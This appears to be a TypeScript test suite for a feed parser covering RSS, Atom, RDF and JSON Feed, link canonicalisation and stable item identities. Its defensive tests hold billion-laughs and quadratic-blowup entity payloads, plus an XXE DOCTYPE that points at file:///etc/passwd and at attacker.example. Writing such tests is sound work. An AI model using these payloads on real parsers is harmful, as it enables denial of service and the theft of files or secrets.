// Feeds: RSS 2.0, Atom, RSS 1.0/RDF and JSON Feed parsing, sniffing, item identity across fetches,
// re-keying, the entity-expansion and XXE defences, caps, and feed items as documents.
import assert from "node:assert/strict";
import { test } from "node:test";
import { documentId } from "../../../src/core/ingest/document.js";
import { canonicalLink, itemIdentities } from "../../../src/core/ingest/feed/identity.js";
import { FeedError } from "../../../src/core/ingest/feed/errors.js";
import { feedItemToDocument } from "../../../src/core/ingest/feed/document.js";
import { MAX_FEED_ITEMS, MAX_ITEM_TEXT_BYTES, type FeedItem } from "../../../src/core/ingest/feed/types.js";
import { parseFeed, sniffContent } from "../../../src/core/ingest/feed/parse.js";

const RSS = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">
<channel>
  <title>Policy Wire &amp; Co</title>
  <link>https://policywire.example/</link>
  <atom:link href="https://policywire.example/feed" rel="self" type="application/rss+xml"/>
  <description>News</description>
  <item>
    <title>Regulator opens probe</title>
    <link>/2024/03/probe?utm_source=rss&amp;utm_medium=feed</link>
    <guid isPermaLink="false">pw-1001</guid>
    <pubDate>Tue, 05 Mar 2024 09:30:00 +0000</pubDate>
    <dc:creator>Ana Ruiz</dc:creator>
    <description>Short summary only</description>
    <content:encoded><![CDATA[<p>The regulator opened a probe on Tuesday.</p><script>alert("x")</script><style>p { color: red }</style><p>&#8220;We welcome it,&#8221; the company said &amp; more.</p>]]></content:encoded>
  </item>
  <item>
    <title>Older: Ben &amp;amp; Jerry&#8217;s fined</title>
    <guid>https://policywire.example/2024/03/fine</guid>
    <pubDate>Mon, 04 Mar 2024 08:00:00 GMT</pubDate>
    <description>&lt;p&gt;The fine was &lt;b&gt;large&lt;/b&gt;.&lt;/p&gt;&lt;p&gt;Second para.&lt;/p&gt;</description>
  </item>
  <item>
    <title>Newest</title>
    <guid isPermaLink="true">https://policywire.example/2024/03/newest</guid>
    <link>https://policywire.example/2024/03/newest-link</link>
    <pubDate>Wed, 06 Mar 2024 12:00:00 EST</pubDate>
    <description>Plain text &lt; with a sign</description>
  </item>
</channel>
</rss>`;

const ATOM = `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://atom.example/blog/">
  <title type="text">Atom Policy</title>
  <link rel="self" href="https://atom.example/feed.xml"/>
  <link rel="alternate" type="text/html" href="https://atom.example/"/>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <updated>2024-03-07T00:00:00Z</updated>
  <author><name>Desk</name></author>
  <entry>
    <title type="html">Court &lt;em&gt;rules&lt;/em&gt;</title>
    <link rel="edit" href="https://atom.example/edit/1"/>
    <link rel="alternate" type="text/html" href="posts/court"/>
    <id>tag:atom.example,2024:1</id>
    <published>2024-03-01T10:00:00+01:00</published>
    <updated>2024-03-02T10:00:00Z</updated>
    <summary>Summary only</summary>
    <content type="html">&lt;p&gt;The court ruled.&lt;/p&gt;&lt;script&gt;evil()&lt;/script&gt;&lt;p&gt;Appeal likely.&lt;/p&gt;</content>
  </entry>
  <entry>
    <title>XHTML entry</title>
    <link href="/abs/path"/>
    <id>tag:atom.example,2024:2</id>
    <updated>2024-03-05T10:00:00Z</updated>
    <author><name>Bo</name></author>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>First &amp; foremost.</p><p>Then <b>bold</b>.</p></div></content>
  </entry>
</feed>`;

const RDF = `<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example/">
    <title>RDF Wire</title>
    <link>https://rdf.example/</link>
    <description>Old school</description>
    <items><rdf:Seq><rdf:li resource="https://rdf.example/a"/><rdf:li resource="https://rdf.example/b"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://rdf.example/a">
    <title>First RDF item</title>
    <link>https://rdf.example/a</link>
    <description>RDF body text.</description>
    <dc:date>2024-02-01T00:00:00Z</dc:date>
    <dc:creator>Cy</dc:creator>
  </item>
  <item rdf:about="https://rdf.example/b">
    <title>Second RDF item</title>
    <link>https://rdf.example/b</link>
    <description>More.</description>
    <dc:date>2024-02-03</dc:date>
  </item>
</rdf:RDF>`;

const JSON_FEED = JSON.stringify({
  version: "https://jsonfeed.org/version/1.1",
  title: "JSON Wire",
  home_page_url: "https://json.example/",
  feed_url: "https://json.example/feed.json",
  authors: [{ name: "Feed Author" }],
  items: [
    {
      id: "1",
      url: "https://json.example/1",
      title: "HTML item",
      content_html: "<p>Para one.</p><script>x()</script><p>Para two &amp; three.</p>",
      date_published: "2024-01-02T03:04:05Z",
      authors: [{ name: "Di" }],
    },
    {
      id: 2,
      url: "/2",
      content_text: "Untitled text line one.\n\nSecond paragraph.",
      date_published: "2024-01-03T00:00:00Z",
      date_modified: "2024-01-04T00:00:00Z",
    },
  ],
});

const HTML_PAGE = `<!DOCTYPE html>
<html lang="en"><head><title>Policy Wire: home</title></head>
<body><h1>Welcome</h1><p>Read our latest news.</p></body></html>`;

function item(fields: Partial<FeedItem>): FeedItem {
  return {
    guid: null,
    link: null,
    title: "A headline",
    published: null,
    updated: null,
    text: "Some text.",
    author: null,
    ...fields,
  };
}

function feedError(fn: () => unknown): FeedError {
  try {
    fn();
  } catch (error) {
    assert.ok(error instanceof FeedError, `expected a FeedError, got ${String(error)}`);
    return error;
  }
  assert.fail("expected a FeedError");
}

function timed<T>(fn: () => T): { value: T; ms: number } {
  const start = performance.now();
  const value = fn();
  return { value, ms: performance.now() - start };
}

function rssOf(items: string, head = ""): string {
  return `<?xml version="1.0"?>${head}<rss version="2.0"><channel><title>T</title><link>https://x.example/</link>${items}</channel></rss>`;
}

test("RSS 2.0: content:encoded, guid permalink variants, RFC 822 dates, relative links, newest first", () => {
  const feed = parseFeed(RSS, "https://policywire.example/feed");
  assert.equal(feed.format, "rss");
  assert.equal(feed.title, "Policy Wire & Co");
  assert.equal(feed.link, "https://policywire.example/");
  assert.deepEqual(
    feed.items.map((i) => i.title),
    ["Newest", "Regulator opens probe", "Older: Ben & Jerry’s fined"],
  );
  const [newest, probe, fine] = feed.items;
  assert.ok(newest && probe && fine);

  assert.equal(probe.guid, "pw-1001");
  assert.equal(probe.link, "https://policywire.example/2024/03/probe?utm_source=rss&utm_medium=feed");
  assert.equal(probe.published, "2024-03-05T09:30:00.000Z");
  assert.equal(probe.author, "Ana Ruiz");
  assert.equal(
    probe.text,
    "The regulator opened a probe on Tuesday.\n\n“We welcome it,” the company said & more.",
  );
  assert.doesNotMatch(probe.text, /alert|color/);

  // isPermaLink defaults to true: the guid is the link when there is no <link>.
  assert.equal(fine.link, "https://policywire.example/2024/03/fine");
  assert.equal(fine.text, "The fine was large.\n\nSecond para.");
  // An explicit <link> wins over a permalink guid.
  assert.equal(newest.guid, "https://policywire.example/2024/03/newest");
  assert.equal(newest.link, "https://policywire.example/2024/03/newest-link");
  assert.equal(newest.published, "2024-03-06T17:00:00.000Z");
  assert.equal(newest.text, "Plain text < with a sign");
  assert.equal(newest.updated, null);
});

test("Atom: xml:base, rel=alternate, published/updated, html and xhtml content, feed-level author", () => {
  const feed = parseFeed(ATOM, "https://atom.example/feed.xml");
  assert.equal(feed.format, "atom");
  assert.equal(feed.title, "Atom Policy");
  assert.equal(feed.link, "https://atom.example/");
  const [xhtml, court] = feed.items;
  assert.ok(xhtml && court);
  assert.equal(feed.items.length, 2);
  assert.equal(court.title, "Court rules");
  assert.equal(court.guid, "tag:atom.example,2024:1");
  assert.equal(court.link, "https://atom.example/blog/posts/court");
  assert.equal(court.published, "2024-03-01T09:00:00.000Z");
  assert.equal(court.updated, "2024-03-02T10:00:00.000Z");
  assert.equal(court.author, "Desk");
  assert.equal(court.text, "The court ruled.\n\nAppeal likely.");
  assert.equal(xhtml.link, "https://atom.example/abs/path");
  assert.equal(xhtml.published, null);
  assert.equal(xhtml.author, "Bo");
  assert.equal(xhtml.text, "First & foremost.\n\nThen bold.");
});

test("RSS 1.0 / RDF: items beside the channel, dc:date, rdf:about as the guid", () => {
  const feed = parseFeed(RDF, "https://rdf.example/index.rdf");
  assert.equal(feed.format, "rss");
  assert.equal(feed.title, "RDF Wire");
  assert.deepEqual(
    feed.items.map((i) => [i.title, i.link, i.guid, i.published, i.author, i.text]),
    [
      [
        "Second RDF item",
        "https://rdf.example/b",
        "https://rdf.example/b",
        "2024-02-03T00:00:00.000Z",
        null,
        "More.",
      ],
      [
        "First RDF item",
        "https://rdf.example/a",
        "https://rdf.example/a",
        "2024-02-01T00:00:00.000Z",
        "Cy",
        "RDF body text.",
      ],
    ],
  );
});

test("JSON Feed 1.1: content_html and content_text, numeric ids, relative urls, authors", () => {
  const feed = parseFeed(JSON_FEED, "https://json.example/feed.json");
  assert.equal(feed.format, "json");
  assert.equal(feed.title, "JSON Wire");
  assert.equal(feed.link, "https://json.example/");
  const [untitled, html] = feed.items;
  assert.ok(untitled && html);
  assert.equal(untitled.guid, "2");
  assert.equal(untitled.link, "https://json.example/2");
  assert.equal(untitled.title, "");
  assert.equal(untitled.text, "Untitled text line one.\n\nSecond paragraph.");
  assert.equal(untitled.updated, "2024-01-04T00:00:00.000Z");
  assert.equal(untitled.author, "Feed Author");
  assert.equal(html.text, "Para one.\n\nPara two & three.");
  assert.equal(html.author, "Di");
  assert.equal(html.published, "2024-01-02T03:04:05.000Z");
});

test("undated items keep document order", () => {
  const feed = parseFeed(
    rssOf("<item><title>b</title><guid>2</guid></item><item><title>a</title><guid>1</guid></item>"),
    "https://x.example/feed",
  );
  assert.deepEqual(
    feed.items.map((i) => i.title),
    ["b", "a"],
  );
});

test("sniffContent tells feeds from web pages and garbage", () => {
  assert.equal(sniffContent(RSS, "application/rss+xml"), "feed");
  assert.equal(sniffContent(ATOM, null), "feed");
  assert.equal(sniffContent(RDF, "text/xml"), "feed");
  assert.equal(sniffContent(JSON_FEED, "application/feed+json"), "feed");
  assert.equal(
    sniffContent(`\uFEFF\n<!-- generator --><?xml-stylesheet href="s.xsl"?>\n${rssOf("")}`, null),
    "feed",
  );
  assert.equal(sniffContent(`<!DOCTYPE rss [<!ENTITY a "]>">]><rss version="2.0"/>`, null), "feed");
  // A web page is a web page whatever the server calls it.
  assert.equal(sniffContent(HTML_PAGE, "application/rss+xml"), "html");
  assert.equal(sniffContent("<html><body>hi</body></html>", null), "html");
  assert.equal(
    sniffContent('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', null),
    "html",
  );
  assert.equal(sniffContent("<div>fragment</div>", "text/html; charset=utf-8"), "html");
  assert.equal(sniffContent("<div>fragment</div>", null), "unknown");
  assert.equal(sniffContent(JSON.stringify({ version: "1.0", items: [] }), "application/json"), "unknown");
  assert.equal(sniffContent('{"version": "https://jsonfeed.org/version/1", ', null), "unknown");
  assert.equal(sniffContent("\u0000\u0001 binary junk", null), "unknown");
  assert.equal(sniffContent("plain words", "text/plain"), "unknown");
  assert.equal(sniffContent("", null), "unknown");
  assert.equal(sniffContent('<?xml version="1.0"?><note><to>x</to></note>', "text/xml"), "unknown");
});

test("parse errors are FeedErrors a person can understand", () => {
  assert.equal(
    feedError(() => parseFeed(HTML_PAGE, "https://x.example/")).userMessage,
    "That address returned a web page, not a feed",
  );
  assert.equal(
    feedError(() =>
      parseFeed('<meta charset="utf-8"><title>Home</title><body><p>Hi<br></body>', "https://x.example/"),
    ).userMessage,
    "That address returned a web page, not a feed",
  );
  const broken = feedError(() => parseFeed("<rss><channel><title>x</channel></rss>", "https://x.example/"));
  assert.match(broken.userMessage, /^The feed is not valid XML: .*closing tag.*\(line 1, column \d+\)$/);
  assert.equal(broken.message, broken.userMessage);
  assert.match(
    feedError(() => parseFeed(rssOf("<item><title>Tom & Jerry</title></item>"), "https://x.example/"))
      .userMessage,
    /^The feed is not valid XML: char '&' is not expected/,
  );
  assert.match(
    feedError(() => parseFeed('<?xml version="1.0"?><note/>', "https://x.example/")).userMessage,
    /not an RSS, Atom or RDF feed \(its root element is <note>\)/,
  );
  assert.match(feedError(() => parseFeed('{"items": [', "https://x.example/")).userMessage, /not valid JSON/);
  assert.match(
    feedError(() => parseFeed('{"items": []}', "https://x.example/")).userMessage,
    /not a JSON Feed/,
  );
  assert.match(feedError(() => parseFeed("  ", "https://x.example/")).userMessage, /empty response/);
  assert.match(feedError(() => parseFeed("hello", "https://x.example/")).userMessage, /neither XML nor JSON/);
  assert.match(feedError(() => parseFeed(RSS, "not a url")).userMessage, /not a valid URL/);
  const deep = rssOf(
    `<item><title>x</title><description>${"<x>".repeat(2000)}${"</x>".repeat(2000)}</description></item>`,
  );
  assert.match(feedError(() => parseFeed(deep, "https://x.example/")).userMessage, /nested too deeply/);
});

test("billion laughs: entities stay unexpanded and parsing is fast", () => {
  let dtd = '<!ENTITY lol "lol">';
  for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  const body = rssOf(
    "<item><title>&lol9;</title><guid>1</guid><description>&lol9; &lol5;</description></item>",
    `<!DOCTYPE lolz [${dtd}]>`,
  );
  const { value: feed, ms } = timed(() => parseFeed(body, "https://x.example/"));
  assert.ok(ms < 1000, `took ${ms} ms`);
  assert.equal(feed.items[0]?.title, "&lol9;");
  assert.equal(feed.items[0]?.text, "&lol9; &lol5;");
  assert.ok(JSON.stringify(feed).length < 2000);
});

test("quadratic blowup (100 KB): one big entity referenced thousands of times is never expanded", () => {
  const big = "a".repeat(50_000);
  const refs = "&a;".repeat(17_000);
  const body = rssOf(
    `<item><title>Q</title><guid>q</guid><description>${refs}</description></item>`,
    `<!DOCTYPE rss [<!ENTITY a "${big}">]>`,
  );
  assert.ok(body.length >= 100_000);
  const { value: feed, ms } = timed(() => parseFeed(body, "https://x.example/"));
  assert.ok(ms < 1000, `took ${ms} ms`);
  const text = feed.items[0]?.text ?? "";
  assert.ok(text.startsWith("&a;&a;"));
  assert.doesNotMatch(text, /aaaa/);
  assert.ok(text.length <= refs.length);
});

test("XXE: a SYSTEM entity pointing at a local file is neither read nor expanded", () => {
  const body = rssOf(
    "<item><title>&xxe;</title><guid>x</guid><description>Leak: &xxe; &remote;</description></item>",
    `<!DOCTYPE rss [
      <!ENTITY xxe SYSTEM "file:///etc/passwd">
      <!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;
      <!ENTITY remote SYSTEM "http://attacker.example/secret">
    ]>`,
  );
  const feed = parseFeed(body, "https://x.example/");
  const [only] = feed.items;
  assert.equal(only?.title, "&xxe;");
  assert.equal(only?.text, "Leak: &xxe; &remote;");
  assert.doesNotMatch(JSON.stringify(feed), /root:|\/bin\/(ba)?sh/);
  // A DOCTYPE-declared entity never shadows a standard one either.
  const shadow = parseFeed(
    rssOf(
      "<item><title>&lt;b&gt; &amp; &#65;</title><guid>s</guid></item>",
      '<!DOCTYPE rss [<!ENTITY lt "EVIL">]>',
    ),
    "https://x.example/",
  );
  assert.equal(shadow.items[0]?.title, "<b> & A");
});

test("a 1000-item feed keeps the newest 500; each item's text is capped at 100 KB", () => {
  let items = "";
  for (let i = 0; i < 1000; i++) {
    const day = new Date(Date.UTC(2020, 0, 1) + i * 86_400_000).toUTCString();
    items += `<item><title>Item ${i}</title><guid>g${i}</guid><pubDate>${day}</pubDate><description>Body ${i}</description></item>`;
  }
  const feed = parseFeed(rssOf(items), "https://x.example/");
  assert.equal(feed.items.length, MAX_FEED_ITEMS);
  assert.equal(feed.items[0]?.title, "Item 999");
  assert.equal(feed.items.at(-1)?.title, "Item 500");

  const words = "Policy words repeat here. ".repeat(12_000);
  const long = parseFeed(
    rssOf(`<item><title>Long</title><guid>l</guid><description>${words}</description></item>`),
    "https://x.example/",
  );
  const text = long.items[0]?.text ?? "";
  assert.ok(Buffer.byteLength(text) <= MAX_ITEM_TEXT_BYTES, `${Buffer.byteLength(text)} bytes`);
  assert.ok(Buffer.byteLength(text) > MAX_ITEM_TEXT_BYTES * 0.8);
  assert.ok(text.endsWith("."));
});

test("canonicalLink folds scheme, host case, default ports, fragments, tracking and trailing slashes", () => {
  assert.equal(
    canonicalLink("HTTP://Example.COM:80/a/b/?utm_source=x&id=3&fbclid=y&UTM_Campaign=z&ref=rss#frag"),
    "https://example.com/a/b?id=3",
  );
  assert.equal(canonicalLink("https://example.com:443/a"), "https://example.com/a");
  assert.equal(canonicalLink("http://example.com"), "https://example.com/");
  assert.equal(canonicalLink("https://example.com/"), "https://example.com/");
  assert.equal(canonicalLink("https://example.com:8443/x/"), "https://example.com:8443/x");
  assert.equal(canonicalLink("https://e.com/p?b=2&a=1&gclid=q&mc_cid=1&mc_eid=2"), "https://e.com/p?a=1&b=2");
  assert.equal(canonicalLink("https://e.com/Case/Path"), "https://e.com/Case/Path");
  assert.equal(canonicalLink("  not a url "), "not a url");
});

test("itemIdentities: GUID first, then canonical link, then content hash; unique within the feed", () => {
  const ids = itemIdentities([
    item({ guid: "a" }),
    item({ link: "https://e.com/x" }),
    item({ title: "No guid, no link" }),
  ]);
  assert.equal(ids.length, 3);
  assert.equal(new Set(ids).size, 3);
  for (const id of ids) assert.match(id, /^[0-9a-f]{32}$/);
  // Same GUID, different link or text elsewhere: the GUID alone decides.
  assert.equal(itemIdentities([item({ guid: "a", link: "https://e.com/1", text: "v2" })])[0], ids[0]);
});

test("repeated GUIDs are told apart by link, else by content, and stay stable when the order changes", () => {
  const a = item({ guid: "dup", link: "https://e.com/a", title: "A" });
  const b = item({ guid: "dup", link: "https://e.com/b", title: "B" });
  const c = item({ guid: "dup", link: "https://e.com/b", title: "C" });
  const d = item({ guid: "dup", title: "D" });
  const ids = itemIdentities([a, b, c, d]);
  assert.equal(new Set(ids).size, 4);
  const swapped = itemIdentities([d, c, b, a]);
  assert.deepEqual(swapped, [...ids].reverse());
  // Fully identical items (a feed that lists one story twice) still get distinct ids.
  const twins = itemIdentities([a, a, item({ title: "x" }), item({ title: "x" })]);
  assert.equal(new Set(twins).size, 4);
  // Links repeat too, without GUIDs.
  const linkDupes = itemIdentities([
    item({ link: "https://e.com/l", title: "1" }),
    item({ link: "https://e.com/l", title: "2" }),
  ]);
  assert.equal(new Set(linkDupes).size, 2);
});

function idsByTitle(body: string): Map<string, string> {
  const feed = parseFeed(body, "https://x.example/feed");
  const ids = itemIdentities(feed.items);
  return new Map(feed.items.map((i, n) => [i.title, ids[n] ?? ""]));
}

test("a feed that re-stamps its dates keeps every identity", () => {
  const make = (day: number) =>
    rssOf(
      [
        `<item><title>With guid</title><guid isPermaLink="false">g-1</guid><pubDate>0${day} Mar 2024 10:00:00 GMT</pubDate><description>One</description></item>`,
        `<item><title>Link only</title><link>https://x.example/l</link><pubDate>0${day} Mar 2024 11:00:00 GMT</pubDate><description>Two</description></item>`,
        `<item><title>Neither</title><pubDate>0${day} Mar 2024 12:00:00 GMT</pubDate><description>Three</description></item>`,
      ].join(""),
    );
  const before = idsByTitle(make(1));
  const after = idsByTitle(make(9));
  assert.equal(before.size, 3);
  assert.deepEqual(after, before);
  const atomBefore = itemIdentities(parseFeed(ATOM, "https://atom.example/feed.xml").items);
  const restamped = ATOM.replaceAll("2024-03-0", "2025-07-1");
  assert.deepEqual(itemIdentities(parseFeed(restamped, "https://atom.example/feed.xml").items), atomBefore);
});

test("an http → https flip and added tracking parameters keep every identity", () => {
  const make = (scheme: string, query: string) =>
    rssOf(
      [
        `<item><title>Permalink guid</title><guid>${scheme}://x.example/p/1</guid></item>`,
        `<item><title>Link only</title><link>${scheme}://X.example/p/2/${query}</link></item>`,
      ].join(""),
    );
  const before = idsByTitle(make("http", ""));
  assert.deepEqual(idsByTitle(make("https", "")), before);
  assert.deepEqual(idsByTitle(make("https", "?utm_source=rss&amp;utm_medium=feed#comments")), before);
  assert.deepEqual(idsByTitle(make("http", "?fbclid=abc")), before);
});

test("feedItemToDocument: headline + text as raw, a stable id, the link as location", () => {
  const feed = parseFeed(RSS, "https://policywire.example/feed");
  const probe = feed.items.find((i) => i.guid === "pw-1001");
  assert.ok(probe);
  const meta = { title: feed.title, url: "https://policywire.example/feed" };
  const doc = feedItemToDocument(probe, meta, "guild:42");
  assert.equal(doc.raw, `Regulator opens probe\n\n${probe.text}`);
  assert.ok(doc.raw.includes("“We welcome it,” the company said & more."));
  assert.equal(doc.id, documentId(doc.raw));
  assert.equal(doc.title, "Regulator opens probe");
  assert.equal(doc.url, probe.link);
  assert.equal(doc.location, probe.link);
  assert.equal(doc.published, "2024-03-05");
  assert.equal(doc.outlet, "Policy Wire & Co");
  assert.equal(doc.owner, "guild:42");
  // Fetched again with a new date stamp: the same document.
  const again = feedItemToDocument({ ...probe, published: "2024-04-01T00:00:00.000Z" }, meta, "guild:42");
  assert.equal(again.id, doc.id);

  const untitled = parseFeed(JSON_FEED, "https://json.example/feed.json").items[0];
  assert.ok(untitled);
  const jsonDoc = feedItemToDocument(
    untitled,
    { title: "JSON Wire", url: "https://json.example/feed.json" },
    "global",
  );
  assert.equal(jsonDoc.title, "Untitled text line one.");
  assert.equal(jsonDoc.raw, "Untitled text line one.\n\nSecond paragraph.");
  assert.equal(jsonDoc.published, "2024-01-03");

  const linkless = item({ guid: "tag:x,1", title: "No link" });
  const a = feedItemToDocument(linkless, { title: "", url: "https://x.example/feed" }, "global");
  const b = feedItemToDocument(linkless, { title: "", url: "https://x.example/feed" }, "global");
  assert.match(a.location, /^https:\/\/x\.example\/feed#[0-9a-f]{32}$/);
  assert.deepEqual(a, b);
  assert.equal(a.outlet, "x.example");
});
